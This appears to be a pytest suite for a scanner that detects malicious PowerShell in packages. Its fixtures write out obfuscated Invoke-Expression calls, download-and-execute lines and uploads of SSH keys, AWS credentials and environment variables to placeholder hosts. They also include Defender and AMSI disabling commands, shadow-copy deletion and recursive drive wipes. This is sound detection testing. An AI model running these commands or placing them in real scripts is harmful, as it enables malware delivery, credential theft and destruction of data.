"""PowerShell: names behind aliases and pieces, texts put together, what flows where, code inside texts, and what is only said."""

import base64
import gzip
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import Look, look
from pratique.facts.scan.observation import How, Observation
from pratique.facts.severity import worst
from pratique.model.evidence import Alarm

SAID = "Write-Output harmless"


def looked(script: str | bytes, path: str = "demo-1.0/tools/demo.ps1") -> Look:
    data = script.encode() if isinstance(script, str) else script
    return look("demo-1.0.tar.gz", [Member(path, len(data), lambda: data)])


def seen(script: str | bytes, *labels: str) -> list[Observation]:
    return [each for view in looked(script).files.values() for each in view.observations if each.label in labels]


def rules(script: str | bytes) -> set[str]:
    return {finding.rule for finding in looked(script).findings}


def run(expression: str) -> str:
    """The text that an expression gives, as it is handed to `iex`."""
    found = [each for each in seen(f"iex ({expression})", "code.exec") if not each.depth]
    assert len(found) == 1, found
    return found[0].text.removeprefix("Invoke-Expression ")


@pytest.mark.parametrize(
    "expression",
    [
        "'Write-Output ' + 'harmless'",
        '"Write-Output $(\'harm\' + "less")"',
        '"{1}{0}" -f "less", "Write-Output harm"',
        '"{0,-13}{1}" -f "Write-Output", "harmless"',
        "'Write-Output ', 'harmless' -join ''",
        "-join ('Write-Output', ' ', 'harmless')",
        "[string]::Join(' ', 'Write-Output', 'harmless')",
        "[string]::Concat('Write-', 'Output', ' harmless')",
        "[string]::Format('{0} {1}', 'Write-Output', 'harmless')",
        "'WriXte-OutXput harmXless'.Replace('X', '')",
        "'WriXte-OutXput harmXless' -replace 'X'",
        "'Write_Output harmless' -creplace '_', '-'",
        "'Write-Output-harmless' -replace '(\\w+)-(\\w+)-', '$1-$2 '",
        "[regex]::Replace('Wr1te-Output harmless', '1', 'i')",
        "'sselmrah tuptuO-etirW'[-1..-21] -join ''",
        "-join ([regex]::Matches('sselmrah tuptuO-etirW', '.', 'RightToLeft') | % { $_.Value })",
        "[char]87 + [char]114 + 'ite-Output harmless'",
        (
            "[string][char[]](87,114,105,116,101,45,79,117,116,112,117,116,32,104,97,114,109,108,101,115,115) "
            "-replace '(.) ', '$1'"
        ),
        "([char[]](87, 114, 105, 116, 101, 45, 79, 117, 116, 112, 117, 116, 32, 104, 97, 114, 109, 108, 101, 115, 115) -join '')",
        "(87,114,105,116,101,45,79,117,116,112,117,116,32,104,97,114,109,108,101,115,115 | % { [char]$_ }) -join ''",
        (
            "('57x72x69x74x65x2dx4fx75x74x70x75x74x20x68x61x72x6dx6cx65x73x73'.Split('x') | "
            "ForEach-Object { [char][Convert]::ToInt16($_, 16) }) -join ''"
        ),
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtT3V0cHV0IGhhcm1sZXNz'))",
        "'Write-Output harmless...'.Substring(0, 21)",
        "'XXWrite-Output harmless'.Remove(0, 2)",
        "'Write-harmless'.Insert(6, 'Output ')",
        "'  Write-Output harmless '.Trim()",
        "('Write-Output harmless|other'.Split('|'))[0]",
        "('other,Write-Output harmless' -split ',')[-1]",
        "$(if (1 -eq 1) { 'Write-Output harmless' })",
        "@{ a = 'Write-Output harmless' }.a",
        "@{ a = 'Write-Output harmless' }['a']",
        "'Write-Output ' + @('a', 'harmless')[1]",
        (
            "[Text.Encoding]::ASCII.GetString([byte[]](0x57,0x72,0x69,0x74,0x65,0x2d,0x4f,0x75,0x74,0x70,0x75,0x74,0x20,"
            "0x68,0x61,0x72,0x6d,0x6c,0x65,0x73,0x73))"
        ),
        "'{0}{1}' -f 'Write-Output ', 'harmless'",
        "(New-Object string (,[char[]]'Write-Output harmless'))",
        "'Write-Output harmless'.ToString()",
        "& { param($a, $b) \"$a $b\" } 'Write-Output' 'harmless'",
        "'`W`rite-Output' + ' harmless' -replace '`', ''",
    ],
)
def test_texts_that_are_put_together_are_known(expression: str) -> None:
    assert run(expression) == SAID


@pytest.mark.parametrize(
    "script",
    [
        "$a = 'Write-Output'; $b = \"$a harmless\"; iex $b",
        "Set-Variable -Name x -Value 'Write-Output harmless'; iex (Get-Variable x).Value",
        "Set-Item Variable:x 'Write-Output harmless'; iex (Get-Item Variable:x).Value",
        "${odd name} = 'Write-Output harmless'; iex ${odd name}",
        "$x = 'Write-Output'; $x += ' harmless'; iex $x",
        "$a, $b = 'Write-Output ', 'harmless'; iex ($a + $b)",
        "function get { 'Write-Output harmless' }; iex (get)",
        "function get($a, $b = 'harmless') { return \"$a $b\" }; iex (get -a Write-Output)",
        "foreach ($c in 'Write-Output', ' ', 'harmless') { $t += $c }; iex $t",
        "for ($i = 0; $i -lt 3; $i++) { $t += ('Write-Output', ' ', 'harmless')[$i] }; iex $t",
        "$b = [char[]]'sselmrah tuptuO-etirW'; [array]::Reverse($b); iex (-join $b)",
        "$t = @'\nWrite-Output harmless\n'@\niex $t",
        "$n = 'harmless'\n$t = @\"\nWrite-Output $n\n\"@\niex $t",
        "$env:CODE = 'Write-Output harmless'; iex $env:CODE",
        "$f = { param($x) iex $x }; & $f 'Write-Output harmless'",
        "'Write-Output harmless' | iex",
        "'Write-Output harmless' | ForEach-Object { iex $_ }",
        "$p = @{ Command = 'Write-Output harmless' }; Invoke-Expression @p",
        "Invoke-Expression -Command:'Write-Output harmless'",
        "$i = 'Write-Output harmless'; Microsoft.PowerShell.Utility\\Invoke-Expression $i",
        "[scriptblock]::Create('Write-Output harmless').Invoke()",
        "$ExecutionContext.InvokeCommand.InvokeScript('Write-Output harmless')",
        "[powershell]::Create().AddScript('Write-Output harmless').Invoke()",
        "$null = iex 'Write-Output harmless' 2>&1",
        "if ($true) { try { iex 'Write-Output harmless' } catch { } finally { } }",
        "switch (1) { 1 { iex 'Write-Output harmless' } default { } }",
        "do { iex 'Write-Output harmless' } while ($false)",
        "class A { [void] Go() { iex 'Write-Output harmless' } }",
        "begin { } process { iex 'Write-Output harmless' } end { }",
        "iex `\n  'Write-Output harmless'",
        "iex 'Write-Output harmless' # a remark",
        "<# a remark #> iex <# another #> 'Write-Output harmless'",
        "\u201cx\u201d; iex \u2018Write-Output harmless\u2019",
    ],
)
def test_what_is_run_is_followed_to_where_it_comes_from(script: str) -> None:
    assert any(SAID in each.text for each in seen(script, "code.exec")), seen(script, "code.exec")


@pytest.mark.parametrize(
    "name",
    [
        "iex",
        "IEX",
        "i`ex",
        "I`Nvo`ke-E`xpression",
        "&'iex'",
        "&('i' + 'ex')",
        ".('{1}{0}' -f 'ex', 'i')",
        "&(gcm ie[x])",
        "& (Get-Command -Name Invoke-Expr*)",
        "&($env:ComSpec[4,15,25] -join '')",
        "&($PSHome[21] + $PSHome[30] + 'x')",
        ".($ShellId[1] + $ShellId[13] + 'x')",
        "&((gv '*mdr*').Name[3,11,2] -join '')",
        "&($VerbosePreference.ToString()[1,3] + 'x' -join '')",
        "i''ex",
        'in"voke"-expression',
    ],
)
def test_commands_are_known_by_whatever_name(name: str) -> None:
    assert seen(f"{name} (Get-Content notes.txt)", "code.exec"), name


@pytest.mark.parametrize(
    "name", ["i`ex", "&('i' + 'ex')", "&($ShellId[1] + $ShellId[13] + 'x')", "&(gcm *ke-ex*)", "i''ex"]
)
def test_a_name_in_pieces_is_remarked_on(name: str) -> None:
    assert seen(f"{name} 'Write-Output harmless'", "obf.spelling")


@pytest.mark.parametrize(
    "script",
    [
        "iex 'Write-Output harmless'",
        "$tool = Get-Command git; & $tool status",
        '& "$PSScriptRoot\\build.ps1" -Fast',
        "& (Join-Path $PSScriptRoot 'tool.exe') --version",
        "$exe = 'powershell'; & $exe -NoProfile -Command 'Write-Output harmless'",
        ". .\\shared.ps1",
        "Write-Host `\n 'over two lines'",
    ],
)
def test_a_name_that_is_merely_kept_in_a_variable_is_not(script: str) -> None:
    assert not seen(script, "obf.spelling")


FLOWS = {
    "iex (irm http://a.example.invalid/)": ("code.exec", "net.http"),
    "irm http://a.example.invalid/ | iex": ("code.exec", "net.http"),
    "$r = iwr http://a.example.invalid/; iex $r.Content": ("code.exec", "net.http"),
    "$w = New-Object Net.WebClient; $w.Headers.Add('a', 'b'); iex $w.DownloadString('http://a.example.invalid/')": (
        "code.exec",
        "net.http",
    ),
    "iex ([Net.WebClient]::new().DownloadString('http://a.example.invalid/'))": ("code.exec", "net.http"),
    "iex ((New-Object -TypeName ('Net.' + 'WebClient'))).DownloadString('http://a.example.invalid/')": (
        "code.exec",
        "net.http",
    ),
    "function a { irm http://a.example.invalid/ }; function b($x) { iex $x }; b (a)": ("code.exec", "net.http"),
    "irm http://a.example.invalid/ -OutFile a.txt; irm -Method Post http://b.example.invalid/ -Body (gc a.txt)": (
        "net.send",
        "net.download_file",
    ),
    "$d = @{ env = (gci env:) }; irm http://a.example.invalid/ -Method Post -Body ($d | ConvertTo-Json)": (
        "net.send",
        "read.env_all",
    ),
    "$k = gc ~/.ssh/id_rsa; irm http://a.example.invalid/ -Method Post -Body $k": ("net.send", "read.secret_file"),
    "Compress-Archive ~/.aws/credentials a.zip; irm http://a.example.invalid/ -Method Put -InFile a.zip": (
        "net.send",
        "read.secret_file",
    ),
    "iwr http://a.example.invalid/ -OutFile a.exe; Start-Process .\\a.exe": ("proc.fetched", "net.download_file"),
    "(New-Object Net.WebClient).DownloadFile('http://a.example.invalid/', \"$env:TEMP\\a.exe\"); & $env:TEMP\\a.exe": (
        "proc.fetched",
        "net.download_file",
    ),
    "$c = New-Object Net.Sockets.TcpClient('a.example.invalid', 1); $s = $c.GetStream(); $b = New-Object byte[] 9; "
    "$s.Read($b, 0, 9); iex ([Text.Encoding]::ASCII.GetString($b))": ("code.exec", "net.received"),
    "$m = New-Object IO.MemoryStream; $m.Write((irm http://a.example.invalid/), 0, 9); [Reflection.Assembly]::Load($m)": (
        "code.compile_load",
        "net.http",
    ),
    '$x = $env:USERNAME; Resolve-DnsName "$x.a.example.invalid"': ("net.dns_data", "read.host_info"),
    'irm "http://a.example.invalid/?u=$([Environment]::UserName)"': ("net.http", "read.host_info"),
    "powershell -c (irm http://a.example.invalid/)": ("proc.fetched", "net.http"),
    "'a' | Out-File x; $t = irm http://a.example.invalid/; $t > y.ps1; .\\y.ps1": ("proc.fetched", "net.http"),
}


@pytest.mark.parametrize("script", FLOWS)
def test_what_flows_into_an_act_is_told(script: str) -> None:
    label, source = FLOWS[script]
    assert any(source in each.inputs for each in seen(script, label)), seen(script, label)


def test_a_request_may_hold_the_token_that_it_is_authorised_by() -> None:
    script = 'irm http://api.example.invalid/ -Headers @{ Authorization = "Bearer $env:GITHUB_TOKEN" }'
    assert all("read.ci_token" not in each.inputs for each in seen(script, "net.http"))
    body = "irm http://api.example.invalid/ -Method Post -Body $env:GITHUB_TOKEN"
    assert any("read.ci_token" in each.inputs for each in seen(body, "net.send"))


@pytest.mark.parametrize(
    ("script", "language"),
    [
        ('powershell -Command "iex (irm http://a.example.invalid/)"', "powershell"),
        ("Start-Process powershell -ArgumentList '-c', 'iex (irm http://a.example.invalid/)'", "powershell"),
        ("Start-Process powershell '-NoProfile -c \"iex (irm http://a.example.invalid/)\"'", "powershell"),
        ("[Diagnostics.Process]::Start('powershell', '-c iex(irm http://a.example.invalid/)')", "powershell"),
        (
            (
                "$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName = 'powershell'; $i.Arguments = '-c iex(irm "
                "http://a.example.invalid/)'; [Diagnostics.Process]::Start($i)"
            ),
            "powershell",
        ),
        ('cmd /c "powershell -c iex(irm http://a.example.invalid/)"', "powershell"),
        ("([wmiclass]'win32_process').Create('powershell -c iex(irm http://a.example.invalid/)')", "powershell"),
        ("iex \"iex 'irm http://a.example.invalid/ | iex'\"", "powershell"),
        ("Start-Job { iex (irm http://a.example.invalid/) }", "powershell"),
        ("Invoke-Command -ScriptBlock { iex (irm http://a.example.invalid/) }", "powershell"),
        ("Register-ObjectEvent $t Elapsed -Action { iex (irm http://a.example.invalid/) }", "powershell"),
        (
            "python -c \"import urllib.request; exec(urllib.request.urlopen('http://a.example.invalid/').read())\"",
            "python",
        ),
    ],
)
def test_code_inside_texts_and_blocks_is_read_in_its_language(script: str, language: str) -> None:
    found = [each for each in seen(script, "code.exec") if "net.http" in each.inputs]
    assert [each.language for each in found] == [language]


def test_layers_are_taken_off_one_by_one() -> None:
    inner = SAID
    for _ in range(3):
        text = base64.b64encode(inner.encode()).decode()
        inner = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{text}')))"
    found = seen(inner, "code.exec")
    assert [each.depth for each in found] == [0, 1, 2]
    assert found[-1].text.endswith(SAID)
    assert found[-1].how is How.DECODED


def test_more_layers_than_are_taken_off_are_no_clean_script() -> None:
    inner = SAID
    for _ in range(12):
        inner = "iex '" + inner.replace("'", "''") + "'"
    assert looked(inner).unread


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress, lambda data: zlib.compress(data, wbits=-15)])
def test_packed_texts_are_unpacked(pack: object) -> None:
    data = pack(SAID.encode())  # type: ignore[operator]  # one of three functions
    text = base64.b64encode(data).decode()
    script = (
        f"$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{text}'))\n"
        "$g = New-Object IO.Compression.DeflateStream($m, [IO.Compression.CompressionMode]::Decompress)\n"
        "iex (New-Object IO.StreamReader($g)).ReadToEnd()"
    )
    found = seen(script, "code.exec")
    assert found[0].text.endswith(SAID)
    assert {"decode.base", "decode.compress"} <= found[0].inputs


def test_packing_is_no_unpacking() -> None:
    script = (
        "$g = New-Object IO.Compression.GZipStream($m, [IO.Compression.CompressionMode]::Compress); $g.Write($b, 0, 9)"
    )
    assert not any("decode.compress" in each.inputs for each in seen(script, "write.file", "net.send"))


@pytest.mark.parametrize(
    "script",
    [
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Set-MpPreference -DisableRea 1",
        "Add-MpPreference -ExclusionPath $x",
        "$p = @{ ExclusionProcess = 'a.exe' }; Add-MpPreference @p",
        "sp 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' DisableAntiSpyware 1",
        "New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths' -Name C:\\ -Value 0",
        "[Microsoft.Win32.Registry]::SetValue('HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender', 'DisableAntiSpyware', 1)",
        "sc.exe stop WinDefend",
        "spps -Name MsMpEng -Force",
        "(gwmi Win32_ShadowCopy).Delete()",
        "gcim Win32_ShadowCopy | Remove-CimInstance",
        "[Ref].Assembly.GetType('System.Management.Automation.Am' + 'siUtils')",
    ],
)
def test_protection_that_is_switched_off_is_told(script: str) -> None:
    assert seen(script, "harm.av_tamper")
    assert "defence-tampering" in rules(script)


@pytest.mark.parametrize(
    "script",
    [
        "Set-MpPreference -DisableRealtimeMonitoring $false",
        "Set-MpPreference -ScanScheduleDay Everyday",
        "Get-MpPreference | Select-Object ExclusionPath",
        "Remove-MpPreference -ExclusionPath C:\\old",
        "Write-Host 'Set-MpPreference -DisableRealtimeMonitoring $true'",
        "# Set-MpPreference -DisableRealtimeMonitoring $true",
        "$help = 'run vssadmin delete shadows to free space'; Write-Warning $help",
        "sp 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' DisableAntiSpyware 0",
        "Get-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'",
        "vssadmin list shadows",
        "Stop-Service -Name Spooler",
        "Describe 'x' { It 'y' { 'sc stop WinDefend' | Should -Not -BeNullOrEmpty } }",
        'Remove-Item "$env:TEMP\\demo" -Recurse -Force',
        "Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        'Get-Content "$env:LOCALAPPDATA\\demo\\settings.json" | ConvertFrom-Json',
        "Get-CimInstance Win32_OperatingSystem | Select-Object Caption",
        "Test-NetConnection server.example.invalid -Port 443",
        "$t = New-Object Net.Sockets.TcpClient; $t.Connect('server.example.invalid', 25); $t.Connected",
        "Invoke-WebRequest https://dl.example.invalid/setup.msi -OutFile setup.msi; msiexec /i setup.msi /qn",
        "Invoke-WebRequest https://dl.example.invalid/a.zip -OutFile a.zip; Expand-Archive a.zip .; git status",
        "New-Service -Name demo -BinaryPathName 'C:\\demo\\demo.exe --serve'",
        "Restart-Computer -Force",
        "$s = [Convert]::FromBase64String($text); [IO.File]::WriteAllBytes('logo.png', $s)",
        "Add-Type -AssemblyName System.Windows.Forms; [Reflection.Assembly]::LoadWithPartialName('System.Web')",
        "iex (irm https://get.scoop.sh)",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        "$enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($command)); powershell -EncodedCommand $enc",
    ],
)
def test_what_admins_do_and_what_is_only_said_is_no_alarm(script: str) -> None:
    assert worst(looked(script).report()) is Alarm.NONE


@pytest.mark.parametrize(
    "path", ["$HOME", "~", "C:\\", "C:\\*", "$env:USERPROFILE\\*", "'C:\\', 'D:\\'", "$env:SystemDrive\\*"]
)
def test_deleting_everything_is_told_from_deleting(path: str) -> None:
    assert seen(f"Remove-Item -Recurse -Force {path}", "harm.wipe")
    assert not seen(
        f"Remove-Item -Recurse -Force {path.split(',', maxsplit=1)[0].strip(chr(39))}demo\\build", "harm.wipe"
    )


def test_utf_16_is_read_with_and_without_its_mark() -> None:
    script = "iex (irm http://a.example.invalid/)"
    for data in (script.encode("utf-16"), script.encode("utf-16-le"), b"\xef\xbb\xbf" + script.encode()):
        assert "download-and-run" in rules(data)


def test_lines_are_those_of_the_file() -> None:
    script = "$a = 1\r\n\r\n$t = @'\r\nx\r\n'@\r\n  iex (irm http://a.example.invalid/)"
    assert {each.line for each in seen(script, "code.exec", "net.http")} == {6}


def test_functions_are_units_of_their_own() -> None:
    script = "function a { irm http://a.example.invalid/ }\nfunction b { irm http://b.example.invalid/ }\nirm http://c.example.invalid/"
    assert len({each.unit for each in seen(script, "net.http")}) == 3


HOSTILE = [
    "(" * 5_000,
    "{" * 5_000,
    '"$(' * 2_000,
    "@(" * 3_000 + "1" + ")" * 3_000,
    "$a" + ".b" * 50_000,
    "[" * 20_000,
    "'a'" + "+'a'" * 50_000,
    "1" + ",1" * 200_000,
    "0..2147483647 | % { $_ }",
    "'a' * 1000000000",
    "$x = 'a'; " + "$x += $x; " * 60,
    "('a' * 2000) -replace '(a+)+$', 'b'",
    "('a' * 100000) -replace 'a*a*a*b', ''",
    "while ($true) { $i++ }",
    "for ($i = 0; $i -lt 100000000; $i++) { $t += 'x' }",
    "function f { f }; f",
    "$b = { & $b }; & $b",
    "`" * 10_000,
    "#" * 100_000,
    "<#" * 50_000,
    "if " * 10_000,
    "function " * 10_000,
    "@'\n" * 10_000,
    "-" * 100_000,
    "[char]" * 20_000 + "65",
    "{0}" * 5_000 + " -f 1",
    "'{0:x99999}{0,99999}' -f 1",
    "$a[" * 5_000,
    "\0" * 10_000,
    "1" * 10_000,
    "0x" + "f" * 100_000,
    "1e999999; 9999999999999999999999999999999999999999999999999999999999999999999999999999999999 * 9",
    "1 -shl 100000000",
    "Set-Alias a b; Set-Alias b a; a",
]


@pytest.mark.parametrize("script", HOSTILE, ids=lambda script: script[:12].replace("\0", "0").replace("\n", " "))
def test_hostile_scripts_come_to_an_end(script: str) -> None:
    looked(script)


def test_what_is_nested_too_deeply_is_not_called_clean() -> None:
    assert looked("(" * 5_000).unread


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("$@(){}[]'\"`;|&.,-+=%!<>#:\n \\abiex019_*?/"), max_size=120))
def test_nothing_but_findings_and_problems_comes_of_any_text(script: str) -> None:
    looked(script)


PIECES = st.sampled_from(
    [
        "iex", "irm", "$a", "$_", "'x'", '"$a"', "(", ")", "{", "}", "[char]", "[byte[]]", "-f", "-join", "-replace", "|",
        "%", ";", "\n", "=", "+", ".", "Invoke", "::", "1", "0..9", "@(", "@{", "@'\n", "\n'@", "function f", "foreach",
        "if", "while", "switch", "param", "-bxor", ",", "&", "powershell -enc", "New-Object", "try", "catch", "class A",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40))
def test_nothing_but_findings_and_problems_comes_of_any_pieces(pieces: list[str]) -> None:
    looked(" ".join(pieces))
